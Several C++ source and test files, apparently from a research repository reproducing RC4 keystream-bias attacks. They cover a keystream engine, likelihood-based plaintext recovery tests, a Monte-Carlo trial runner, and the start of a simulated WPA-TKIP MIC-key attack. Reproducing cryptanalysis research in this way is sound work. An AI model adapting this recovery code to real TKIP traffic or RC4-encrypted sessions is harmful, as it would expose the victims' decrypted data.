      std::printf(" %+10.5f", band.sum[f] / band.used[f]);
    }
    std::printf("\n");
  }

  // Z1/Z2 pair biases A-D of Sect. 3.3.2, pooled over x.
  std::printf("\nZ1/Z2 pair biases (pooled relative bias over x, x != 0,1):\n");
  double sums[4] = {0, 0, 0, 0};
  int used = 0;
  for (int x = 2; x < 256; ++x) {
    sums[0] += RelativeBias(grid, z1z2_row, 0, static_cast<uint8_t>(x));  // A
    sums[1] += RelativeBias(grid, z1z2_row, static_cast<uint8_t>(x),
                            static_cast<uint8_t>((258 - x) & 0xff));      // B
    sums[2] += RelativeBias(grid, z1z2_row, static_cast<uint8_t>(x), 0);  // C
    sums[3] += RelativeBias(grid, z1z2_row, static_cast<uint8_t>(x), 1);  // D
    ++used;
  }
  const char* kPairNames[] = {"A) Z1=0,Z2=x (neg)", "B) Z1=x,Z2=258-x (pos)",
                              "C) Z1=x,Z2=0 (neg)", "D) Z1=x,Z2=1 (pos)"};
  for (int f = 0; f < 4; ++f) {
    std::printf("  %-26s %+10.5f\n", kPairNames[f], sums[f] / used);
  }
  std::printf("\n(per-band noise ~ %.5f; paper magnitudes 2^-11..2^-7)\n",
              1.0 / std::sqrt(static_cast<double>(options.keys) / 65536.0 *
                              static_cast<double>(window)));
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
