// Deterministic trial-parallel Monte-Carlo runner.
//
// Every attack evaluation in this repository (Figs. 7-10) is a Monte-Carlo
// experiment: N independent simulated attacks, aggregated into success rates
// or medians. This runner shards trials over the thread pool under one
// determinism contract, mirroring the keystream engine's sharding-invariant
// key derivation (docs/engine.md):
//
//   trial t always derives its RNG from (seed, t) alone — TrialRng(seed, t)
//   — never from the worker it lands on, and per-trial results are collected
//   into a trial-indexed vector. Aggregates computed by folding that vector
//   in trial order are therefore bit-exact for ANY worker count, including 1.
//
// docs/sim.md spells out the contract; tests/sim/ pins it.
#ifndef SRC_SIM_RUNNER_H_
#define SRC_SIM_RUNNER_H_

#include <cstdint>
#include <functional>
#include <type_traits>
#include <vector>

#include "src/common/rng.h"

namespace rc4b::sim {

struct TrialRunnerOptions {
  uint64_t trials = 0;
  unsigned workers = 0;  // shards; 0 = hardware concurrency
  uint64_t seed = 1;
};

// Mixes (seed, trial) into the single-word seed of trial t's generator with
// a SplitMix64 finalizer, so nearby seeds / trial indices land far apart.
// Also used to derive independent per-checkpoint seed streams (e.g.
// TrialSeed(seed, ciphertext_count) in the cookie simulation).
uint64_t TrialSeed(uint64_t seed, uint64_t trial);

// The canonical per-trial generator: Xoshiro256 seeded with
// TrialSeed(seed, trial).
Xoshiro256 TrialRng(uint64_t seed, uint64_t trial);

// Runs fn(trial, rng) for every trial in [0, options.trials), sharded over
// the thread pool in contiguous chunks. Each call receives a fresh
// TrialRng(options.seed, trial); fn runs concurrently across trials and must
// only write trial-local state (e.g. its slot of a results vector).
void ForEachTrial(const TrialRunnerOptions& options,
                  const std::function<void(uint64_t, Xoshiro256&)>& fn);

// ForEachTrial collecting each trial's result into a trial-indexed vector:
// results[t] = fn(t, rng_t). The returned vector — and anything folded from
// it in index order — is bit-exact for any worker count.
template <typename Result, typename Fn>
std::vector<Result> RunTrials(const TrialRunnerOptions& options, Fn&& fn) {
  // std::vector<bool> packs results into shared bytes, which would turn the
  // concurrent per-trial slot writes into a data race — wrap the flag in a
  // struct (see Fig7Trial in bench_fig7_recovery_rate.cc) instead.
  static_assert(!std::is_same_v<Result, bool>,
                "RunTrials<bool> would race on std::vector<bool> bits");
  std::vector<Result> results(options.trials);
  ForEachTrial(options, [&](uint64_t trial, Xoshiro256& rng) {
    results[trial] = fn(trial, rng);
  });
  return results;
}

}  // namespace rc4b::sim

#endif  // SRC_SIM_RUNNER_H_
