#include "src/biases/mantin.h"
#include "src/core/likelihood.h"

#include <cmath>

#include <gtest/gtest.h>

#include "src/common/rng.h"
#include "src/core/synthetic.h"

namespace rc4b {
namespace {

TEST(LikelihoodTest, LogProbabilities) {
  const std::vector<double> p = {0.5, 0.25, 0.25};
  const auto logs = LogProbabilities(p);
  EXPECT_DOUBLE_EQ(logs[0], std::log(0.5));
  EXPECT_DOUBLE_EQ(logs[1], std::log(0.25));
}

TEST(LikelihoodTest, SingleByteRecoversPlaintextUnderStrongBias) {
  // Keystream heavily biased toward 0: the most likely plaintext byte is the
  // most frequent ciphertext byte.
  std::vector<double> p(256, (1.0 - 0.5) / 255.0);
  p[0] = 0.5;
  const auto log_p = LogProbabilities(p);

  Xoshiro256 rng(1);
  const uint8_t truth = 0x41;
  std::vector<uint64_t> counts(256, 0);
  for (int i = 0; i < 2000; ++i) {
    const uint8_t z = rng.UnitDouble() < 0.5 ? 0 : rng.Byte();
    counts[z ^ truth] += 1;
  }
  const auto lambda = SingleByteLogLikelihood(counts, log_p);
  EXPECT_EQ(ArgMax(lambda), truth);
}

TEST(LikelihoodTest, SingleByteUniformKeystreamGivesFlatLikelihood) {
  const std::vector<double> p(256, 1.0 / 256.0);
  const auto log_p = LogProbabilities(p);
  std::vector<uint64_t> counts(256, 0);
  counts[3] = 100;
  counts[200] = 50;
  const auto lambda = SingleByteLogLikelihood(counts, log_p);
  for (size_t mu = 1; mu < 256; ++mu) {
    EXPECT_NEAR(lambda[mu], lambda[0], 1e-9);
  }
}

TEST(LikelihoodTest, SparseMatchesDenseDoubleByte) {
  // The optimized formula (15) must agree with the O(2^32)-style dense
  // computation up to a mu-independent constant.
  const auto sparse_model = FmSparseModel(5, 1 << 20);
  const auto table = FmDigraphTable(5, 1 << 20);
  const auto log_table = LogProbabilities(table);

  Xoshiro256 rng(2);
  std::vector<uint64_t> counts(65536);
  for (auto& c : counts) {
    c = 50 + (rng() & 0x1f);
  }
  uint64_t total = 0;
  for (uint64_t c : counts) {
    total += c;
  }

  const auto dense = DoubleByteLogLikelihoodDense(counts, log_table);
  const auto sparse = DoubleByteLogLikelihoodSparse(counts, total, sparse_model);
  const double shift = dense[0] - sparse[0];
  for (size_t mu = 0; mu < 65536; mu += 257) {
    EXPECT_NEAR(dense[mu] - sparse[mu], shift, 1e-6) << "mu=" << mu;
  }
}

TEST(LikelihoodTest, DoubleByteRecoversPairFromFmBiases) {
  // Sample paper-scale counts from the FM model and check the argmax.
  const uint8_t i = 11;
  const auto keystream = FmDigraphTable(i, 1 << 20);
  const auto model = FmSparseModel(i, 1 << 20);
  Xoshiro256 rng(3);
  const uint8_t p1 = 'S', p2 = 'K';
  int correct = 0;
  const int trials = 10;
  for (int t = 0; t < trials; ++t) {
    const auto counts =
        SampleCiphertextPairCounts(keystream, p1, p2, uint64_t{1} << 34, rng);
    const auto lambda = DoubleByteLogLikelihoodSparse(counts, uint64_t{1} << 34, model);
    if (ArgMax(lambda) == static_cast<size_t>(p1) * 256 + p2) {
      ++correct;
    }
  }
  // 2^34 ciphertexts with all FM biases: recovery should be near-certain.
  EXPECT_GE(correct, 8);
}

TEST(LikelihoodTest, AbsabLikelihoodPeaksAtTruth) {
  const double alpha = AbsabAlpha(0);
  Xoshiro256 rng(4);
  const uint16_t truth = 0x4b1d;   // true plaintext pair
  const uint16_t known = 0x2042;   // known plaintext pair used as reference
  const uint16_t true_diff = truth ^ known;

  // Counts over differentials: the true differential is biased. 2^38
  // ciphertexts give the single-gap estimate an ~8-sigma edge, enough for
  // the argmax over 65536 differentials to land on the truth reliably.
  const uint64_t trials = uint64_t{1} << 38;
  std::vector<uint64_t> diff_counts(65536);
  for (size_t d = 0; d < 65536; ++d) {
    const double p = (d == true_diff) ? alpha : (1.0 - alpha) / 65535.0;
    diff_counts[d] = SamplePoisson(static_cast<double>(trials) * p, rng);
  }
  const auto lambda = AbsabLogLikelihood(diff_counts, trials, known, alpha);
  EXPECT_EQ(ArgMax(lambda), truth);
}

TEST(LikelihoodTest, ZeroProbabilityCellsDoNotPoisonTables) {
  // Regression: a zero-probability cell used to produce log(0) = -inf, and a
  // zero count times -inf is NaN — silently corrupting the whole lambda
  // table. SafeLog floors the probability, so every lambda stays finite and
  // the argmax still lands on the truth.
  std::vector<double> p(256, 1.0 / 254.0);
  p[0] = 0.0;  // degenerate cell
  p[1] = 0.0;
  const auto log_p = LogProbabilities(p);
  for (double lp : log_p) {
    EXPECT_TRUE(std::isfinite(lp));
  }

  // Sparse counts: most cells zero, including ones that map onto the
  // degenerate keystream cells for most candidate mu.
  std::vector<uint64_t> counts(256, 0);
  const uint8_t truth = 0x5a;
  counts[2 ^ truth] = 1000;  // keystream 2 is a live cell
  counts[3 ^ truth] = 990;
  const auto lambda = SingleByteLogLikelihood(counts, log_p);
  for (double value : lambda) {
    EXPECT_TRUE(std::isfinite(value));
  }

  // Same property for the sparse double-byte path with a degenerate biased
  // cell and for the ABSAB table at alpha edge cases.
  SparseDigraphModel model;
  model.unbiased_probability = 1.0 / 65536.0;
  model.biased_cells = {{0x0100, 0.0}, {0x0200, 2.0 / 65536.0}};
  std::vector<uint64_t> pair_counts(65536, 0);
  pair_counts[42] = 17;
  const auto sparse = DoubleByteLogLikelihoodSparse(pair_counts, 17, model);
  for (size_t mu = 0; mu < 65536; mu += 97) {
    EXPECT_TRUE(std::isfinite(sparse[mu])) << "mu=" << mu;
  }
}

TEST(LikelihoodTest, DenseDoubleByteMatchesNaiveReference) {
  // The blocked XorCorrelate256 kernel must agree with the textbook
  // formula (13) loop.
  Xoshiro256 rng(6);
  std::vector<uint64_t> counts(65536);
  for (auto& c : counts) {
    c = rng() & 0x7;  // sparse-ish, exercises the zero-weight skip
  }
  std::vector<double> p(65536);
  double sum = 0.0;
  for (auto& value : p) {
    value = rng.UnitDouble() + 0.01;
    sum += value;
  }
  for (auto& value : p) {
    value /= sum;
  }
  const auto log_p = LogProbabilities(p);

  const auto lambda = DoubleByteLogLikelihoodDense(counts, log_p);
  for (size_t mu = 0; mu < 65536; mu += 4099) {
    const size_t mu1 = mu >> 8, mu2 = mu & 0xff;
    double expected = 0.0;
    for (size_t c1 = 0; c1 < 256; ++c1) {
      for (size_t c2 = 0; c2 < 256; ++c2) {
        expected += static_cast<double>(counts[c1 * 256 + c2]) *
                    log_p[(c1 ^ mu1) * 256 + (c2 ^ mu2)];
      }
    }
    EXPECT_NEAR(lambda[mu], expected, 1e-6 * std::abs(expected)) << "mu=" << mu;
  }
}

TEST(LikelihoodTest, ArgMaxIsSafeOnEmptySpan) {
  EXPECT_EQ(ArgMax(std::span<const double>()), 0u);
  const std::vector<double> one = {3.5};
  EXPECT_EQ(ArgMax(one), 0u);
}

TEST(LikelihoodTest, CombineAddsTables) {
  std::vector<double> a = {1.0, 2.0, 3.0};
  const std::vector<double> b = {0.5, -2.0, 10.0};
  CombineInPlace(a, b);
  EXPECT_DOUBLE_EQ(a[0], 1.5);
  EXPECT_DOUBLE_EQ(a[1], 0.0);
  EXPECT_DOUBLE_EQ(a[2], 13.0);
}

TEST(LikelihoodTest, CombiningIndependentEstimatesSharpensDecision) {
  // Two weak single-byte estimates combined should recover the byte where
  // either alone fails — the principle of Sect. 4.3.
  std::vector<double> p(256, 1.0 / 256.0);
  for (int v = 0; v < 256; ++v) {
    p[v] *= 1.0 + (v == 77 ? 0.02 : -0.02 / 255);
  }
  const auto log_p = LogProbabilities(p);
  Xoshiro256 rng(5);
  const uint8_t truth = 0x00;

  int single_correct = 0, combined_correct = 0;
  for (int trial = 0; trial < 40; ++trial) {
    std::vector<std::vector<double>> lambdas;
    for (int est = 0; est < 8; ++est) {
      std::vector<uint64_t> counts(256);
      for (size_t c = 0; c < 256; ++c) {
        counts[c] = SamplePoisson(20000.0 * p[c ^ truth], rng);
      }
      lambdas.push_back(SingleByteLogLikelihood(counts, log_p));
    }
    single_correct += ArgMax(lambdas[0]) == truth ? 1 : 0;
    std::vector<double> combined = lambdas[0];
    for (int est = 1; est < 8; ++est) {
      CombineInPlace(combined, lambdas[est]);
    }
    combined_correct += ArgMax(combined) == truth ? 1 : 0;
  }
  EXPECT_GT(combined_correct, single_correct);
}

}  // namespace
}  // namespace rc4b
