#include "src/engine/keystream_engine.h"

#include <algorithm>
#include <cassert>
#include <cstring>
#include <mutex>
#include <vector>

#include "src/common/thread_pool.h"
#include "src/rc4/autotune.h"
#include "src/rc4/keygen.h"
#include "src/rc4/kernel.h"
#include "src/rc4/kernel_registry.h"
#include "src/rc4/rc4.h"
#include "src/rc4/rc4_multi.h"
#include "src/stats/counters.h"

namespace rc4b {

namespace {

constexpr size_t kKeySize = Rc4KeyGenerator::kRc4KeySize;

// Draws `lanes` keys, in keygen order, into one flat buffer for a kernel's
// lockstep Init().
void GatherKeys(Rc4KeyGenerator& keygen, size_t lanes, uint8_t* out) {
  for (size_t m = 0; m < lanes; ++m) {
    const auto key = keygen.NextKey();
    std::copy(key.begin(), key.end(), out + m * kKeySize);
  }
}

// batch_keys == 0 consumes the host's cached autotune choice (the tuner
// sweeps batch sizes alongside kernels/widths); without a valid cache the
// historical default stands.
size_t ResolveBatchKeys(size_t requested) {
  if (requested != 0) {
    return requested;
  }
  if (const auto cached = ValidCachedAutotuneChoice()) {
    return cached->batch_keys;
  }
  return 256;
}

// ------------------------------------------------------------------------
// Short-term batch generation.

// Scalar path (width 1) and the tail of every lockstep group sweep: the
// pre-kernel reference the bit-exactness tests and benches compare against.
void FillRowsScalar(Rc4KeyGenerator& keygen, uint64_t drop, uint8_t* out,
                    size_t rows, size_t length) {
  for (size_t r = 0; r < rows; ++r) {
    Rc4 rc4(keygen.NextKey());
    if (drop != 0) {
      rc4.Skip(drop);
    }
    rc4.Keystream(std::span<uint8_t>(out + r * length, length));
  }
}

// Fills rows [0, rows) of the row-major batch buffer with one keystream per
// key: groups of Width() rows via the lane kernel (lane m stores straight
// into row m with stride `length`), then a scalar tail for the remainder.
// Key order matches the keygen draw order, so the batch is byte-identical
// to the scalar path for every kernel and width.
void FillRowsWithKernel(Rc4LaneKernel& kernel, Rc4KeyGenerator& keygen,
                        uint64_t drop, uint8_t* out, size_t rows, size_t length,
                        uint8_t* keybuf) {
  const size_t lanes = kernel.Width();
  size_t r = 0;
  for (; r + lanes <= rows; r += lanes) {
    GatherKeys(keygen, lanes, keybuf);
    kernel.Init(std::span<const uint8_t>(keybuf, lanes * kKeySize), kKeySize);
    if (drop != 0) {
      kernel.Skip(drop);
    }
    kernel.Keystream(out + r * length, length, length);
  }
  FillRowsScalar(keygen, drop, out + r * length, rows - r, length);
}

// ------------------------------------------------------------------------
// Long-term streaming generation.

struct StreamPlan {
  size_t chunk = 0;
  size_t lookahead = 0;
  uint64_t full_chunks = 0;
  size_t tail = 0;
  uint64_t drop = 0;  // options.drop + accumulator.ExtraDrop(), hoisted
};

// One key, scalar: prime the lookahead, then slide overlapping windows.
// `buffer` is one stream row of chunk + lookahead bytes.
void StreamKeyScalar(Rc4& rc4, StreamShardSink& sink, const StreamPlan& plan,
                     uint8_t* buffer) {
  sink.BeginKey();
  rc4.Keystream(std::span<uint8_t>(buffer, plan.lookahead));
  for (uint64_t c = 0; c < plan.full_chunks; ++c) {
    rc4.Keystream(std::span<uint8_t>(buffer + plan.lookahead, plan.chunk));
    sink.ConsumeChunk(
        std::span<const uint8_t>(buffer, plan.chunk + plan.lookahead),
        plan.chunk);
    if (plan.lookahead != 0) {
      std::memmove(buffer, buffer + plan.chunk, plan.lookahead);
    }
  }
  if (plan.tail != 0) {
    rc4.Keystream(std::span<uint8_t>(buffer + plan.lookahead, plan.tail));
    sink.ConsumeChunk(
        std::span<const uint8_t>(buffer, plan.tail + plan.lookahead),
        plan.tail);
  }
}

// `count` keys through one sink, one at a time on the scalar path — also
// the remainder loop after lockstep groups.
void StreamKeysScalar(Rc4KeyGenerator& keygen, StreamShardSink& sink,
                      uint64_t count, const StreamPlan& plan, uint8_t* buffer) {
  for (uint64_t k = 0; k < count; ++k) {
    Rc4 rc4(keygen.NextKey());
    if (plan.drop != 0) {
      rc4.Skip(plan.drop);
    }
    StreamKeyScalar(rc4, sink, plan, buffer);
  }
}

// `count` keys through one sink: groups of Width() keys generated in
// lockstep into per-lane chunk buffers (rows of `buffer`, stride chunk +
// lookahead), windows delivered round-robin in key order (see the
// StreamShardSink ordering note in keystream_engine.h), then a scalar
// remainder for the leftover keys.
void StreamKeysWithKernel(Rc4LaneKernel& kernel, Rc4KeyGenerator& keygen,
                          StreamShardSink& sink, uint64_t count,
                          const StreamPlan& plan, uint8_t* buffer,
                          uint8_t* keybuf) {
  const size_t lanes = kernel.Width();
  const size_t stride = plan.chunk + plan.lookahead;
  uint64_t k = 0;
  for (; k + lanes <= count; k += lanes) {
    GatherKeys(keygen, lanes, keybuf);
    kernel.Init(std::span<const uint8_t>(keybuf, lanes * kKeySize), kKeySize);
    if (plan.drop != 0) {
      kernel.Skip(plan.drop);
    }
    for (size_t m = 0; m < lanes; ++m) {
      sink.BeginKey();
    }
    kernel.Keystream(buffer, plan.lookahead, stride);
    for (uint64_t c = 0; c < plan.full_chunks; ++c) {
      kernel.Keystream(buffer + plan.lookahead, plan.chunk, stride);
      for (size_t m = 0; m < lanes; ++m) {
        sink.ConsumeChunk(std::span<const uint8_t>(buffer + m * stride,
                                                   plan.chunk + plan.lookahead),
                          plan.chunk);
      }
      if (plan.lookahead != 0) {
        for (size_t m = 0; m < lanes; ++m) {
          std::memmove(buffer + m * stride, buffer + m * stride + plan.chunk,
                       plan.lookahead);
        }
      }
    }
    if (plan.tail != 0) {
      kernel.Keystream(buffer + plan.lookahead, plan.tail, stride);
      for (size_t m = 0; m < lanes; ++m) {
        sink.ConsumeChunk(std::span<const uint8_t>(buffer + m * stride,
                                                   plan.tail + plan.lookahead),
                          plan.tail);
      }
    }
  }
  StreamKeysScalar(keygen, sink, count - k, plan, buffer);
}

}  // namespace

void RunKeystreamEngine(const EngineOptions& options, BiasAccumulator& accumulator) {
  const size_t length = accumulator.KeystreamLength();
  assert(length > 0);
  // One dispatch decision per run; every shard instantiates its own kernel
  // object from it (kernels hold per-group state and are not thread-safe).
  const KernelChoice choice = ResolveKernelChoice(options.kernel, options.interleave);
  // Batches hold at least one lockstep group so the kernel engages even
  // with tiny batch_keys settings; counts are batch-size invariant either way.
  const size_t batch_keys =
      std::max<size_t>(ResolveBatchKeys(options.batch_keys), choice.width);
  std::mutex merge_mutex;
  ParallelChunks(options.keys, options.workers,
                 [&](unsigned /*shard*/, uint64_t begin, uint64_t end) {
    // All shards draw from the same AES-CTR stream: key k is key number
    // first_key + k regardless of how [0, keys) was chunked, which makes the
    // merged statistics invariant under the worker count — and, with
    // first_key, under how a key range is split across processes.
    Rc4KeyGenerator keygen(options.seed);
    keygen.Seek(options.first_key + begin);
    std::unique_ptr<ShardSink> sink;
    {
      std::lock_guard<std::mutex> lock(merge_mutex);
      sink = accumulator.MakeShard();
    }
    std::unique_ptr<Rc4LaneKernel> kernel =
        choice.width > 1 ? choice.kernel->make(choice.width) : nullptr;
    assert(choice.width == 1 || kernel != nullptr);  // resolution guarantees it
    std::vector<uint8_t> keybuf(choice.width * kKeySize);
    AlignedVector<uint8_t> buffer(batch_keys * length, 0);
    for (uint64_t k = begin; k < end;) {
      const size_t rows =
          static_cast<size_t>(std::min<uint64_t>(batch_keys, end - k));
      if (kernel != nullptr) {
        FillRowsWithKernel(*kernel, keygen, options.drop, buffer.data(), rows,
                           length, keybuf.data());
      } else {
        FillRowsScalar(keygen, options.drop, buffer.data(), rows, length);
      }
      sink->Consume(KeystreamBatch{buffer.data(), rows, length});
      k += rows;
    }
    std::lock_guard<std::mutex> lock(merge_mutex);
    accumulator.MergeShard(*sink, end - begin);
  });
}

void RunLongTermEngine(const LongTermEngineOptions& options,
                       StreamAccumulator& accumulator) {
  StreamPlan plan;
  plan.lookahead = accumulator.Lookahead();
  plan.chunk = std::max<size_t>(options.chunk_bytes, 256);
  assert(plan.chunk % 256 == 0);
  // bytes_per_key rounds down to whole 256-byte blocks only; a trailing
  // window smaller than chunk_bytes is processed separately so the chunk
  // size never changes the sample count.
  const uint64_t owned_per_key = options.bytes_per_key / 256 * 256;
  plan.full_chunks = owned_per_key / plan.chunk;
  plan.tail = static_cast<size_t>(owned_per_key % plan.chunk);
  plan.drop = options.drop + accumulator.ExtraDrop();
  const KernelChoice choice = ResolveKernelChoice(options.kernel, options.interleave);
  std::mutex merge_mutex;
  ParallelChunks(options.keys, options.workers,
                 [&](unsigned /*shard*/, uint64_t begin, uint64_t end) {
    Rc4KeyGenerator keygen(options.seed);
    keygen.Seek(options.first_key + begin);
    std::unique_ptr<StreamShardSink> sink;
    {
      std::lock_guard<std::mutex> lock(merge_mutex);
      sink = accumulator.MakeShard();
    }
    std::unique_ptr<Rc4LaneKernel> kernel =
        choice.width > 1 ? choice.kernel->make(choice.width) : nullptr;
    assert(choice.width == 1 || kernel != nullptr);  // resolution guarantees it
    std::vector<uint8_t> keybuf(choice.width * kKeySize);
    // One chunk-buffer row per lockstep lane, cache-aligned like the
    // short-term batch buffer.
    AlignedVector<uint8_t> buffer(choice.width * (plan.chunk + plan.lookahead), 0);
    if (kernel != nullptr) {
      StreamKeysWithKernel(*kernel, keygen, *sink, end - begin, plan,
                           buffer.data(), keybuf.data());
    } else {
      StreamKeysScalar(keygen, *sink, end - begin, plan, buffer.data());
    }
    std::lock_guard<std::mutex> lock(merge_mutex);
    accumulator.MergeShard(*sink, end - begin, owned_per_key);
  });
}

}  // namespace rc4b
