// RetryPolicy backoff and the exit-code contract (docs/orchestrate.md): the
// campaign scheduler replays identically from the same seed, and every tool
// classifies failures the same way.
#include "src/common/retry.h"

#include <algorithm>
#include <set>
#include <vector>

#include <gtest/gtest.h>

namespace rc4b {
namespace {

TEST(RetryPolicyTest, DelayIsDeterministicForTheSameInputs) {
  const RetryPolicy policy;
  for (uint32_t attempt = 1; attempt <= 6; ++attempt) {
    EXPECT_EQ(policy.DelayMs(attempt, 3), policy.DelayMs(attempt, 3));
  }
}

TEST(RetryPolicyTest, DelayGrowsExponentiallyUntilTheCap) {
  RetryPolicy policy;
  policy.base_delay_ms = 100;
  policy.max_delay_ms = 5000;
  for (uint32_t attempt = 1; attempt <= 10; ++attempt) {
    const uint64_t exponential = std::min<uint64_t>(
        policy.max_delay_ms, uint64_t{100} << (attempt - 1));
    const uint64_t delay = policy.DelayMs(attempt, 7);
    // Jitter adds at most half the exponential component, capped overall.
    EXPECT_GE(delay, exponential);
    EXPECT_LE(delay, policy.max_delay_ms);
    EXPECT_LE(delay, exponential + exponential / 2);
  }
}

TEST(RetryPolicyTest, LateAttemptsSaturateAtTheCapWithoutOverflow) {
  RetryPolicy policy;
  policy.base_delay_ms = 100;
  policy.max_delay_ms = 5000;
  // Shifts far past 64 bits must clamp, not wrap around to tiny delays.
  for (const uint32_t attempt : {40u, 63u, 64u, 100u, 1000000u}) {
    EXPECT_EQ(policy.DelayMs(attempt, 0), policy.max_delay_ms);
  }
}

TEST(RetryPolicyTest, ZeroBaseMeansNoBackoff) {
  RetryPolicy policy;
  policy.base_delay_ms = 0;
  for (uint32_t attempt = 1; attempt <= 8; ++attempt) {
    EXPECT_EQ(policy.DelayMs(attempt, 5), 0u);
  }
}

TEST(RetryPolicyTest, DifferentSaltsSpreadTheirRetries) {
  // The jitter exists to keep shards from thundering in lockstep: across
  // many salts the same attempt number must not produce one single delay.
  const RetryPolicy policy;
  std::set<uint64_t> delays;
  for (uint64_t salt = 0; salt < 32; ++salt) {
    delays.insert(policy.DelayMs(3, salt));
  }
  EXPECT_GT(delays.size(), 8u);
  for (const uint64_t delay : delays) {
    EXPECT_GE(delay, 400u);  // the exponential floor for attempt 3
    EXPECT_LE(delay, 600u);  // plus at most half again
  }
}

TEST(RetryPolicyTest, DifferentSeedsGiveDifferentJitterStreams) {
  RetryPolicy a;
  RetryPolicy b;
  b.jitter_seed = a.jitter_seed + 1;
  std::vector<uint64_t> delays_a;
  std::vector<uint64_t> delays_b;
  for (uint64_t salt = 0; salt < 16; ++salt) {
    delays_a.push_back(a.DelayMs(2, salt));
    delays_b.push_back(b.DelayMs(2, salt));
  }
  EXPECT_NE(delays_a, delays_b);
}

TEST(ExitCodeTest, StatusClassesMapOntoTheContract) {
  EXPECT_EQ(ExitCodeForStatus(IoStatus::Ok()), kExitOk);
  EXPECT_EQ(ExitCodeForStatus(IoStatus::Transient("disk on fire")),
            kExitRetryable);
  EXPECT_EQ(ExitCodeForStatus(IoStatus::Fail("bad checksum")), kExitFatal);
}

TEST(ExitCodeTest, ErrnoFailuresAreRetryable) {
  // FromErrno covers the "environment said no" class — exactly the failures
  // a retry on a healthy host can fix.
  EXPECT_EQ(ExitCodeForStatus(IoStatus::FromErrno("open", "x")), kExitRetryable);
}

}  // namespace
}  // namespace rc4b
