#include "src/common/alias.h"

#include <cmath>
#include <vector>

#include <gtest/gtest.h>

namespace rc4b {
namespace {

TEST(AliasTest, UniformWeights) {
  std::vector<double> weights(16, 1.0);
  AliasTable table(weights);
  Xoshiro256 rng(1);
  std::vector<int> counts(16, 0);
  const int n = 160000;
  for (int i = 0; i < n; ++i) {
    ++counts[table.Sample(rng)];
  }
  for (int c : counts) {
    EXPECT_NEAR(c, n / 16, 6 * std::sqrt(n / 16.0));
  }
}

TEST(AliasTest, SkewedWeightsMatchProbabilities) {
  const std::vector<double> weights = {1.0, 2.0, 4.0, 8.0, 1.0};
  const double total = 16.0;
  AliasTable table(weights);
  Xoshiro256 rng(2);
  std::vector<int> counts(weights.size(), 0);
  const int n = 400000;
  for (int i = 0; i < n; ++i) {
    ++counts[table.Sample(rng)];
  }
  for (size_t v = 0; v < weights.size(); ++v) {
    const double expected = n * weights[v] / total;
    EXPECT_NEAR(counts[v], expected, 6 * std::sqrt(expected)) << "value " << v;
  }
}

TEST(AliasTest, ZeroWeightNeverSampled) {
  const std::vector<double> weights = {0.0, 1.0, 0.0, 3.0};
  AliasTable table(weights);
  Xoshiro256 rng(3);
  for (int i = 0; i < 20000; ++i) {
    const uint32_t v = table.Sample(rng);
    EXPECT_TRUE(v == 1 || v == 3);
  }
}

TEST(AliasTest, SingleOutcome) {
  const std::vector<double> weights = {5.0};
  AliasTable table(weights);
  Xoshiro256 rng(4);
  for (int i = 0; i < 100; ++i) {
    EXPECT_EQ(table.Sample(rng), 0u);
  }
}

TEST(AliasTest, UnnormalizedWeightsEquivalent) {
  // Scaling all weights must not change the distribution.
  const std::vector<double> a = {0.1, 0.3, 0.6};
  const std::vector<double> b = {10.0, 30.0, 60.0};
  AliasTable ta(a), tb(b);
  Xoshiro256 ra(5), rb(5);  // same seed => same draws
  for (int i = 0; i < 5000; ++i) {
    EXPECT_EQ(ta.Sample(ra), tb.Sample(rb));
  }
}

TEST(AliasTest, Rc4LikeDistribution) {
  // A 256-value distribution with one mildly biased cell, the model-victim
  // use case: the sampler must reproduce the bias to statistical accuracy.
  std::vector<double> weights(256, 1.0);
  weights[77] = 1.5;
  AliasTable table(weights);
  Xoshiro256 rng(6);
  int hits = 0;
  const int n = 1 << 22;
  for (int i = 0; i < n; ++i) {
    hits += table.Sample(rng) == 77 ? 1 : 0;
  }
  const double expected = n * 1.5 / 256.5;
  EXPECT_NEAR(hits, expected, 6 * std::sqrt(expected));
}

}  // namespace
}  // namespace rc4b
