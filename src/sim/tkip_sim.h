// Trial-parallel Monte-Carlo simulation of the WPA-TKIP trailer/MIC-key
// attack (Sect. 5, Figs. 8-9): a victim retransmitting the injected packet
// under incrementing TSCs, the attacker accumulating per-TSC1 statistics, and
// rank evaluations at checkpoint ciphertext counts with a geometric model of
// CRC-32 false positives.
//
// Promoted to library code from the former bench-local harness so the
// figure benches, the examples, and the tests all drive one implementation.
// Trials run on src/sim/runner.h: trial t's randomness derives from
// (options.seed, t) alone, so the aggregates RunTkipSimulations() returns are
// bit-exact for any worker count (docs/sim.md).
#ifndef SRC_SIM_TKIP_SIM_H_
#define SRC_SIM_TKIP_SIM_H_

#include <cstdint>
#include <optional>
#include <span>
#include <vector>

#include "src/common/rng.h"
#include "src/tkip/frame.h"
#include "src/tkip/injection.h"
#include "src/tkip/tsc_model.h"

namespace rc4b::sim {

struct TkipSimOptions {
  std::vector<uint64_t> checkpoints;  // packet counts at which to evaluate
  // Payload of the injected TCP packet. Empty selects Sect. 5.2's optimal
  // 7-byte payload; other lengths shift the MIC+ICV trailer to different
  // keystream positions (the scenario registry's TKIP variants).
  Bytes payload;
  // Traversal budget for the success criterion ("nearly 2^30 candidates").
  uint64_t candidate_budget = uint64_t{1} << 30;
  uint64_t trials = 16;  // simulated attacks (the paper runs 256)
  unsigned workers = 0;  // 0 = hardware concurrency
  uint64_t seed = 1;
  // true: perfect-model limit (victim trailer keystream drawn from the
  // attacker's model; see ModelVictimSource). false: real TKIP key mixing +
  // RC4 — honest, but the scaled-down attacker model then needs
  // --keys-per-tsc near 2^28 per class to carry signal (DESIGN.md).
  bool oracle_model = true;
};

struct TkipSimPoint {
  uint64_t packets = 0;
  double truth_rank = 0.0;           // rank of truth among all 2^96
  double first_icv_position = 0.0;   // min(rank, CRC false positive draw)
  bool success_with_budget = false;  // found before budget & any false hit
  bool success_with_two = false;     // truth within the two best candidates
};

// Builds the attack's injected packet: 48 bytes of headers + 7-byte payload
// (Sect. 5.2's optimal structure).
Bytes InjectedPacket();

// Same headers with an arbitrary payload — longer payloads place the
// MIC+ICV trailer at deeper keystream positions.
Bytes InjectedPacket(std::span<const uint8_t> payload);

// A TKIP peer with uniformly random keys and addresses, drawn from `rng` —
// the victim of one simulated attack.
TkipPeer RandomPeer(Xoshiro256& rng);

// The simulated victim's frame stream for the trailer positions: either the
// perfect-model path (keystream sampled from the attacker's model) or the
// fully faithful one (real TKIP key mixing + RC4 per packet). Shared by the
// simulation trials and the end-to-end example.
class TrailerFrameSource {
 public:
